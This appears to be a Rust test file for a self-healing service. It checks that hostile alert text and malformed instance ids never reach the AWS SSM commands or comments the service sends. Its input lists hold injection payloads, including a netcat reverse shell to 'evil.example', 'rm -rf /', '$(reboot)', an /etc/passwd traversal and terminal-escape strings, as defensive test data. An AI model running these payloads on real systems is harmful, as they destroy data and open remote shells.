//! Hostile input through the whole engine, over fakes (issue 10): nothing panics, every record
//! ends in one recorded outcome, nothing from an alert reaches `CommandRequest.lines` or
//! `comment` (asserted on the fake executor's recorded requests), and a malformed instance id
//! never reaches SendCommand.

mod common;
use common::*;
use selfheal_core::ingest::MAX_BODY_BYTES;
use selfheal_core::RunbookMap;
use selfheal_service::fakes::FakeWorld;
use selfheal_service::script::wrap;
use selfheal_service::{day_string, Engine, InboundRecord, Outcome};
use std::collections::HashSet;
use std::sync::Arc;

const HOSTILE: &[&str] = &[
    "$(reboot)",
    "`reboot`",
    "; rm -rf / #",
    "| nc evil.example 4444 -e /bin/sh",
    "' \" \\ ${IFS}",
    "a\nreboot",
    "a\r\nb\u{0}c",
    "<!channel>",
    "<!here|here> @channel",
    "<https://evil.example|click me>",
    "*bold* _it_ ~st~ `code`",
    "\u{1b}[31mred\u{1b}[0m\u{1b}[2J",
    "\u{1b}]8;;https://evil.example\u{7}link\u{1b}]8;;\u{7}",
    "\u{202e}gnp.exe",
    "%s%n {{7*7}} ../../etc/passwd",
];

const BAD_IDS: &[&str] = &[
    "",
    "i-0123ABCD",
    "i-0123abc",
    "i-0123abcde",
    "i-0c51f9f1213e6315",
    "i-0c51f9f1213e631599",
    "i-0123abcd\n",
    " i-0123abcd",
    "i-0123abcd;reboot",
    "i-$(reboot)",
    "mi-0123456789abcdef0",
    "i-\u{ff10}\u{ff11}\u{ff12}\u{ff13}abcd",
];

const RUNBOOKS: &str = r#"{
  "api:nginx_down": {"precheck": ["! pgrep -x nginx"], "commands": ["systemctl restart nginx"], "verify": ["systemctl is-active --quiet nginx"],
                      "max_attempts": 100, "max_concurrent": 50},
  "api:*": {"commands": ["systemctl restart api"], "max_attempts": 100, "max_concurrent": 50},
  "*:*": {"commands": ["logger selfheal-catch-all"], "max_attempts": 100, "max_concurrent": 50}
}"#;

fn map() -> Arc<RunbookMap> {
    runbooks(RUNBOOKS)
}

/// Every script the engine may send: a runbook phase wrapped by `script::wrap`, nothing else.
fn allowed_scripts(m: &RunbookMap) -> HashSet<Vec<String>> {
    let mut out = HashSet::new();
    for (role, alert) in [("api", "nginx_down"), ("api", "other"), ("db", "other")] {
        if let Some((_, e)) = m.lookup(role, alert) {
            for (phase, lines) in [
                ("precheck", &e.precheck),
                ("commands", &e.commands),
                ("verify", &e.verify),
            ] {
                if !lines.is_empty() {
                    out.insert(wrap(phase, lines));
                }
            }
        }
    }
    out
}

fn is_claim_comment(c: &str) -> bool {
    let parts: Vec<&str> = c.split(' ').collect();
    matches!(parts.as_slice(), ["selfheal", id, phase]
        if id.len() == 16 && id.bytes().all(|b| b.is_ascii_hexdigit()) && ["precheck", "commands", "verify"].contains(phase))
}

fn is_valid_id(s: &str) -> bool {
    s.strip_prefix("i-").is_some_and(|h| {
        (h.len() == 8 || h.len() == 17)
            && h.bytes()
                .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
    })
}

/// Checks every request the fake SSM received against what the runbooks allow.
fn assert_requests_clean(w: &FakeWorld, m: &RunbookMap, forbidden: &[&str]) {
    let allowed = allowed_scripts(m);
    for s in w.executor.sent() {
        let r = &s.request;
        assert!(
            allowed.contains(&r.lines),
            "script not from a runbook: {:?}",
            r.lines
        );
        assert!(is_claim_comment(&r.comment), "comment {:?}", r.comment);
        assert!(
            is_valid_id(r.instance.as_str()),
            "instance {:?}",
            r.instance
        );
        assert_eq!(r.document, "AWS-RunShellScript");
        for f in forbidden.iter().filter(|f| f.len() > 2) {
            assert!(!r.comment.contains(f), "alert text {f:?} in the comment");
            for line in &r.lines {
                assert!(!line.contains(f), "alert text {f:?} in line {line:?}");
            }
        }
    }
}

fn hostile_world() -> (FakeWorld, Engine, Arc<RunbookMap>) {
    let w = world();
    let m = map();
    let e = Engine::new(w.ports(), m.clone(), settings());
    (w, e, m)
}

/// Runs records one batch at a time, redelivering what goes back to the queue (bounded).
async fn run_all(e: &Engine, w: &FakeWorld, records: Vec<InboundRecord>) -> Vec<(String, Outcome)> {
    let mut queue = records;
    let mut finals = Vec::new();
    for _ in 0..50 {
        if queue.is_empty() {
            break;
        }
        let batch: Vec<_> = queue.drain(..queue.len().min(10)).collect();
        let out = e.process_batch(batch.clone(), DEADLINE).await;
        for (r, res) in batch.into_iter().zip(out) {
            if res.retry {
                queue.push(InboundRecord {
                    receive_count: r.receive_count + 1,
                    ..r
                });
            } else {
                finals.push((res.message_id, res.outcome));
            }
        }
        w.clock.advance(std::time::Duration::from_secs(61));
    }
    assert!(
        queue.is_empty(),
        "records still retried after 50 rounds: {queue:?}"
    );
    finals
}

fn generic(alert: &str, role: &str, instance: &str) -> String {
    serde_json::json!({"alert": alert, "role": role, "instance_id": instance}).to_string()
}

#[tokio::test]
async fn hostile_alarm_text_never_reaches_a_command_line_or_comment() {
    let (w, e, m) = hostile_world();
    let mut records = Vec::new();
    for (n, h) in HOSTILE.iter().enumerate() {
        for (k, name) in [
            format!("api:{h}"),
            h.to_string(),
            format!("api:nginx_down:{h}"),
            format!("{h}:nginx_down"),
        ]
        .into_iter()
        .enumerate()
        {
            // The hostile text also rides in the time (part of the identity) and the reason.
            let mut msg: serde_json::Value =
                serde_json::from_str(&cw_body(&name, "ALARM", NGINX, &format!("t{n}-{k}-{h}")))
                    .expect("json");
            let inner = msg["Message"]
                .as_str()
                .expect("message")
                .replace("Threshold Crossed", h);
            msg["Message"] = serde_json::Value::String(inner);
            records.push(rec(&format!("m{n}-{k}"), msg.to_string()));
        }
        records.push(rec(
            &format!("g{n}"),
            generic("nginx_down", "api", NGINX)
                .replace("}", &format!(",\"summary\":{}}}", serde_json::json!(h))),
        ));
    }
    let total = records.len();
    let finals = run_all(&e, &w, records).await;
    assert_eq!(finals.len(), total);
    // Hostile names still act (through the wildcard entries): that is what proves the text
    // went nowhere near the script.
    assert!(
        finals.iter().filter(|(_, o)| *o == Outcome::Healed).count() >= HOSTILE.len() * 3,
        "{finals:?}"
    );
    assert!(!w.executor.sent().is_empty());
    assert_requests_clean(&w, &m, HOSTILE);
    // Announcements carry the text only as data fields; their `commands` are runbook lines.
    let lines: HashSet<String> = [
        "systemctl restart nginx",
        "systemctl restart api",
        "logger selfheal-catch-all",
    ]
    .iter()
    .map(|s| (*s).to_owned())
    .collect();
    for a in w.chat.all() {
        assert!(
            a.commands.iter().all(|c| lines.contains(c)),
            "{:?}",
            a.commands
        );
    }
    // One history record per alert.
    assert_eq!(w.store.history().len(), total);
}

#[tokio::test]
async fn malformed_instance_ids_never_reach_send_command() {
    let (w, e, m) = hostile_world();
    let mut records = Vec::new();
    for (n, bad) in BAD_IDS.iter().chain(HOSTILE).enumerate() {
        records.push(rec(
            &format!("cw{n}"),
            cw_body("api:nginx_down", "ALARM", bad, &format!("t{n}")),
        ));
        records.push(rec(&format!("g{n}"), generic("nginx_down", "api", bad)));
        records.push(rec(
            &format!("l{n}"),
            serde_json::json!({"alert": "nginx_down", "role": "api", "instance_ids": [NGINX, bad]})
                .to_string(),
        ));
    }
    let total = records.len();
    let finals = run_all(&e, &w, records).await;
    assert_eq!(finals.len(), total);
    for (id, o) in &finals {
        assert_eq!(*o, Outcome::Invalid, "{id}");
    }
    assert!(
        w.executor.sent().is_empty(),
        "SendCommand was called: {:?}",
        w.executor.sent()
    );
    let hist = w.store.history();
    assert_eq!(hist.len(), total, "every invalid record is recorded once");
    for h in &hist {
        assert_eq!(h.outcome, "invalid");
        assert!(h.instance.is_none());
        assert!(h.command_ids.is_empty());
        assert!(
            !h.reason.contains('\n') && !h.reason.contains('\u{1b}'),
            "{:?}",
            h.reason
        );
    }
    assert_requests_clean(&w, &m, &[]);
}

#[tokio::test]
async fn bodies_at_and_over_256_kib_end_in_one_outcome_each() {
    let (w, e, m) = hostile_world();
    let build = |pad: &str| {
        serde_json::json!({"id": "big", "alert": "nginx_down", "role": "api", "instance_id": NGINX, "description": pad}).to_string()
    };
    let base = build("").len();
    let at = build(&"x".repeat(MAX_BODY_BYTES - base));
    assert_eq!(at.len(), MAX_BODY_BYTES);
    let over = build(&"x".repeat(MAX_BODY_BYTES - base + 1)).replace("\"big\"", "\"big2\"");
    let far = build(&"\u{1b}[31m<!channel>".repeat(MAX_BODY_BYTES / 4));
    let finals = run_all(
        &e,
        &w,
        vec![rec("at", at), rec("over", over), rec("far", far)],
    )
    .await;
    let outcome = |id: &str| finals.iter().find(|(m, _)| m == id).map(|(_, o)| *o);
    assert_eq!(outcome("at"), Some(Outcome::Healed));
    assert_eq!(outcome("over"), Some(Outcome::Invalid));
    assert_eq!(outcome("far"), Some(Outcome::Invalid));
    assert_eq!(w.executor.sent_in_phase("commands").len(), 1);
    assert_requests_clean(&w, &m, &[]);
    let hist = w.store.history();
    assert_eq!(hist.len(), 3);
    for h in &hist {
        // A history item must fit in DynamoDB (400 KB) whatever the alert carried.
        let size = serde_json::to_string(h).expect("json").len();
        assert!(
            size < 8 * 1024,
            "history item of {size} bytes for {}",
            h.outcome
        );
    }
}

#[test]
fn nested_lossy_and_duplicate_key_bodies_are_recorded_invalid() {
    let (w, e, m) = hostile_world();
    let lossy = |b: &[u8]| String::from_utf8_lossy(b).into_owned();
    let bodies = vec![
        "[".repeat(100_000),
        "{\"a\":".repeat(100_000),
        format!("{{\"alert\":\"nginx_down\",\"role\":\"api\",\"instance_id\":\"{NGINX}\",\"x\":{}}}", "[".repeat(50_000)),
        lossy(b"{\"alert\":\"nginx\xff_down\",\"role\":\"api\",\"instance_id\":\"i-0c51f9f1213e63159\"}"),
        lossy(b"{\"alert\":\"nginx_down\",\"role\":\"api\",\"instance_id\":\"i-0c51f9f1213e6315\xc3\"}"),
        lossy(&[0xff; 1024]),
        format!(r#"{{"alert":"nginx_down","role":"api","instance_id":"{NGINX}","state":"OK","state":"ALARM"}}"#),
        format!(r#"{{"alert":"nginx_down","role":"api","instance_id":"{NGINX}","instance_id":"i-0123abcd"}}"#),
        r#"{"Type":"Notification","MessageId":"x","Message":"{}","Message":"{}"}"#.to_owned(),
    ];
    let records: Vec<_> = bodies
        .into_iter()
        .enumerate()
        .map(|(n, b)| rec(&format!("h{n}"), b))
        .collect();
    let total = records.len();
    // Parsing runs on the runtime's worker threads: the deep bodies must fit their stacks.
    let rt = tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .thread_stack_size(2 * 1024 * 1024)
        .enable_all()
        .build()
        .expect("runtime");
    let e2 = e.clone();
    let finals = rt
        .block_on(rt.spawn(async move { e2.process_batch(records, DEADLINE).await }))
        .expect("no panic");
    assert_eq!(finals.len(), total);
    for r in &finals {
        assert_eq!(r.outcome, Outcome::Invalid, "{r:?}");
        assert!(
            !r.retry,
            "an unreadable record is deleted, not retried: {r:?}"
        );
    }
    assert!(w.executor.sent().is_empty());
    assert_eq!(w.store.history().len(), total);
    assert_requests_clean(&w, &m, &[]);
}

#[tokio::test]
async fn timestamps_in_the_future_change_neither_the_day_nor_the_expiry() {
    let (w, e, m) = hostile_world();
    let times = [
        "2999-01-01T00:00:00.000+0000",
        "9999-12-31T23:59:59.999+0000",
        "+275760-09-13T00:00:00Z",
        "99999999999999999999",
    ];
    let records: Vec<_> = times
        .iter()
        .enumerate()
        .map(|(n, t)| {
            rec(
                &format!("f{n}"),
                cw_body("api:nginx_down", "ALARM", NGINX, t),
            )
        })
        .collect();
    let finals = run_all(&e, &w, records).await;
    assert!(
        finals.iter().all(|(_, o)| *o == Outcome::Healed),
        "{finals:?}"
    );
    let hist = w.store.history();
    assert_eq!(hist.len(), times.len(), "each transition is its own alert");
    let today = day_string(T0);
    for h in &hist {
        assert_eq!(h.day, today, "the day comes from our clock, not the alert");
        assert!(h.received_at_ms >= T0 && h.finished_at_ms >= h.received_at_ms);
        let expected = h.finished_at_ms / 1000 + 90 * 86_400;
        assert_eq!(h.expires_at, expected, "the TTL comes from our clock");
    }
    assert_eq!(w.executor.sent_in_phase("commands").len(), times.len());
    assert_requests_clean(&w, &m, &times);
}
